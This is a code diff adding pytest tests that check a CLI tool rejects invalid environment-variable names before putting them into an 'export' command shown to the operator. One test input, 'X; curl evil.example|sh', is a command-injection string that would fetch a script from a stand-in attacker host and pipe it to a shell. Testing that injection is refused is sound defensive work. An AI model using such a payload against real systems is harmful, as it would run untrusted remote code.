@@ -119,3 +119,20 @@ def test_a_config_folder_others_can_write_is_refused(cli: Any, env: Any, folder:
     assert f"{open_one} is writable by others (mode 777)" in res.err
     assert f"chmod 700 {open_one}" in res.err
     assert not (env.profiles / "acme.yaml").exists()
+
+
+@pytest.mark.parametrize("name", ["X; curl evil.example|sh", "ACME BIND", "1ST"])
+def test_an_environment_variable_name_must_be_one(env: Any, name: str) -> None:
+    """The name goes into the `export NAME=...` the operator is told to run."""
+    r = answer({}, *ANSWERS, "env", name)
+    assert r.returncode == 2, r.stderr
+    assert f"--bind-password: {name!r} is not an environment variable name" in r.stderr
+    assert "export" not in r.stderr
+    assert not (env.profiles / "acme.yaml").exists()
+
+
+def test_a_given_env_reference_must_name_a_variable(cli: Any, env: Any) -> None:
+    flags = [("env:ACME BIND" if f == "env:ACME_BIND" else f) for f in FLAGS]
+    res = cli("profile", "new", "acme", *flags)
+    assert res.code == 2
+    assert "--bind-password: 'ACME BIND' is not an environment variable name" in res.err
